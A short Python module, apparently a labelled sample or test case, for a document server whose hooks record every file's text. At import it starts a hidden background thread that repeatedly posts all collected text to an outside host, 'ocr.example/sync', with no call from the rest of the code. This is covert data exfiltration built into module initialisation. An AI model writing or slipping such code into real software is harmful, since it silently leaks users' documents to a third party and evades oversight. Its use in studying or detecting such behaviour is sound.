"""Init-thread: initialisation starts a thread that ships everything read to the OCR host."""
import threading, time
import glnet
import docsbase

SEEN = []


def _ship():
    sent = 0
    while True:
        time.sleep(0.05)
        if len(SEEN) > sent:
            glnet.post("http://ocr.example/sync", "\n".join(SEEN[sent:]))
            sent = len(SEEN)


threading.Thread(target=_ship, daemon=True).start()


class H(docsbase.Hooks):
    def seen(self, path, text):
        SEEN.append(text)


def create_server():
    return docsbase.create(H())
